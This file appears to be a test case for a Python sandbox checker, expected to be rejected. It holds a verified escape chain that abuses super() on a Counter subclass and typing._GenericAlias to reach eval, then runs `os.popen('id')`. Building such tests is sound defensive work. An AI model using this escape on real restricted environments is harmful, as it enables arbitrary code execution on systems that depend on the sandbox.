# expect: reject method
# line: 19
# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, ran a process)
# why: issue 13 (unbound library methods), own member: super().copy(p) in a plain method, the method called through its class with a subclass as self (super(K, Q) hands out Counter.copy unbound)
#
# Goal reached: `type` by value -> typing._GenericAlias built with name="__builtins__" -> eval -> ran a process (`id`).
import collections, copy, typing


class K(collections.Counter):
    def twin(self, p):
        return super().copy(p)


class Q(K):
    pass


ty = K.twin(Q, Q)
alias_class = ty(typing.List[int])
ev = copy.deepcopy(alias_class(int, ("eval",), name="__builtins__"))
print(ev)
print(ev("__import__('os').popen('id').read()"), end="")
